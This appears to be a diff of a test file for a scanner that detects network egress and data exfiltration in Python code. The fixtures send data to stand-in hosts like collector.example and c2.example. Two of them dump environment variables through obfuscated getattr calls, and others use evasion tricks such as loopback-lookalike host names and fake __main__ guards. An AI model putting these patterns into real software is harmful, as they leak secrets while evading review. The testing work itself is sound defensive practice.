@@ -26,7 +26,10 @@ describe('exemptions that rested on author-chosen text', () => {
   after(() => rmSync(dir, { recursive: true, force: true }));
 
   test('a host name that starts with 127. is a name on the Internet, not the loopback address', async () => {
-    const file = await scanSource('dotted_name.py', 'import requests\nrequests.post("https://127.0.0.1.collector.example/in", data=b"x")\n');
+    const file = await scanSource(
+      'dotted_name.py',
+      'import requests\nrequests.post("https://127.0.0.1.collector.example/in", data=b"x")\n',
+    );
     const call = file.findings.find((f) => f.rule === 'egress-network-call');
     assert.equal(call?.destination?.host, '127.0.0.1.collector.example');
     assert.notEqual(call?.destination?.kind, 'loopback');
@@ -34,67 +37,127 @@ describe('exemptions that rested on author-chosen text', () => {
   });
 
   test('the real loopback address is still local', async () => {
-    const file = await scanSource('loopback.py', 'import requests\nrequests.post("http://127.0.0.1:8080/in", data=b"x")\n');
-    assert.deepEqual(rulesOf(file).filter((rule) => rule === 'egress-network-call'), []);
+    const file = await scanSource(
+      'loopback.py',
+      'import requests\nrequests.post("http://127.0.0.1:8080/in", data=b"x")\n',
+    );
+    assert.deepEqual(
+      rulesOf(file).filter((rule) => rule === 'egress-network-call'),
+      [],
+    );
   });
 
   test('a backslash before @ does not hide the real host behind a loopback address', async () => {
-    const file = await scanSource('backslash_at.py', 'import requests\nrequests.get("http://127.0.0.1\\\\@collector.example/in")\n');
+    const file = await scanSource(
+      'backslash_at.py',
+      'import requests\nrequests.get("http://127.0.0.1\\\\@collector.example/in")\n',
+    );
     assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.destination?.host, 'collector.example');
   });
 
   test('the text AF_UNIX near an Internet socket does not drop its connection', async () => {
-    const source = ['import socket', 's = socket.socket(socket.AF_INET if "AF_UNIX" else 0, socket.SOCK_STREAM)', 's.connect(("c2.example", 4444))', ''].join('\n');
+    const source = [
+      'import socket',
+      's = socket.socket(socket.AF_INET if "AF_UNIX" else 0, socket.SOCK_STREAM)',
+      's.connect(("c2.example", 4444))',
+      '',
+    ].join('\n');
     const file = await scanSource('af_unix_text.py', source);
     assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.destination?.host, 'c2.example');
   });
 
   test('a name rebound from a Unix socket to an Internet socket is still reported', async () => {
-    const source = ['import socket', 's = socket.socket(socket.AF_UNIX)', 's = socket.socket(socket.AF_INET)', 's.connect(("c2.example", 4444))', ''].join('\n');
+    const source = [
+      'import socket',
+      's = socket.socket(socket.AF_UNIX)',
+      's = socket.socket(socket.AF_INET)',
+      's.connect(("c2.example", 4444))',
+      '',
+    ].join('\n');
     const file = await scanSource('af_unix_rebound.py', source);
     assert.ok(rulesOf(file).includes('egress-network-call'));
   });
 
   test('a real Unix socket (family resolved to socket.AF_UNIX) stays local', async () => {
-    const source = ['from socket import socket, AF_UNIX, SOCK_STREAM', 's = socket(AF_UNIX, SOCK_STREAM)', 's.connect(SOCK_PATH)', ''].join('\n');
+    const source = [
+      'from socket import socket, AF_UNIX, SOCK_STREAM',
+      's = socket(AF_UNIX, SOCK_STREAM)',
+      's.connect(SOCK_PATH)',
+      '',
+    ].join('\n');
     const file = await scanSource('af_unix_real.py', source);
     assert.ok(!rulesOf(file).includes('egress-network-call'));
   });
 
   test('the else branch of `if __name__ == "__main__"` runs on import', async () => {
-    const source = ['import requests', 'if __name__ == "__main__":', '    pass', 'else:', '    requests.post("https://collector.example/in", data=b"x")', ''].join('\n');
+    const source = [
+      'import requests',
+      'if __name__ == "__main__":',
+      '    pass',
+      'else:',
+      '    requests.post("https://collector.example/in", data=b"x")',
+      '',
+    ].join('\n');
     const file = await scanSource('main_else.py', source);
     assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'import');
   });
 
   test('a guard whose condition only looks like the __main__ test runs on import', async () => {
     for (const condition of ['(__name__ == "__main__") == False', '__name__ == "__main__" if True else True']) {
-      const source = ['import requests', `if ${condition}:`, '    requests.post("https://collector.example/in", data=b"x")', ''].join('\n');
+      const source = [
+        'import requests',
+        `if ${condition}:`,
+        '    requests.post("https://collector.example/in", data=b"x")',
+        '',
+      ].join('\n');
       const file = await scanSource('fake_guard.py', source);
       assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'import', condition);
     }
   });
 
   test('__name__ rebound to "__main__" makes the guarded block run on import', async () => {
-    const source = ['import requests', '__name__ = "__main__"', 'if __name__ == "__main__":', '    requests.post("https://collector.example/in", data=b"x")', ''].join('\n');
+    const source = [
+      'import requests',
+      '__name__ = "__main__"',
+      'if __name__ == "__main__":',
+      '    requests.post("https://collector.example/in", data=b"x")',
+      '',
+    ].join('\n');
     const file = await scanSource('rebound_name.py', source);
     assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'import');
   });
 
   test('a real __main__ guard still marks its block as script-only', async () => {
-    const source = ['import requests', 'if __name__ == "__main__":', '    requests.post("https://collector.example/in", data=b"x")', ''].join('\n');
+    const source = [
+      'import requests',
+      'if __name__ == "__main__":',
+      '    requests.post("https://collector.example/in", data=b"x")',
+      '',
+    ].join('\n');
     const file = await scanSource('main_guard.py', source);
     assert.equal(file.findings.find((f) => f.rule === 'egress-network-call')?.trigger, 'call');
   });
 
   test('data flow is followed in a file that never spells environ, getenv or any other source word', async () => {
-    const source = ['import os, requests', 'env = getattr(os, "envi" + "ron")', 'requests.post("https://collector.example/in", json=dict(env))', ''].join('\n');
+    const source = [
+      'import os, requests',
+      'env = getattr(os, "envi" + "ron")',
+      'requests.post("https://collector.example/in", json=dict(env))',
+      '',
+    ].join('\n');
     const file = await scanSource('spelled_apart.py', source);
     assert.ok(rulesOf(file).includes('exfiltration'), JSON.stringify(rulesOf(file)));
   });
 
   test('data flow is followed in a function that never spells a source word', async () => {
-    const source = ['import os, requests', 'NAME = "envi" + "ron"', 'def send():', '    requests.post("https://collector.example/in", json=dict(getattr(os, NAME)))', 'send()', ''].join('\n');
+    const source = [
+      'import os, requests',
+      'NAME = "envi" + "ron"',
+      'def send():',
+      '    requests.post("https://collector.example/in", json=dict(getattr(os, NAME)))',
+      'send()',
+      '',
+    ].join('\n');
     const file = await scanSource('function_spelled_apart.py', source);
     assert.ok(rulesOf(file).includes('exfiltration'), JSON.stringify(rulesOf(file)));
   });
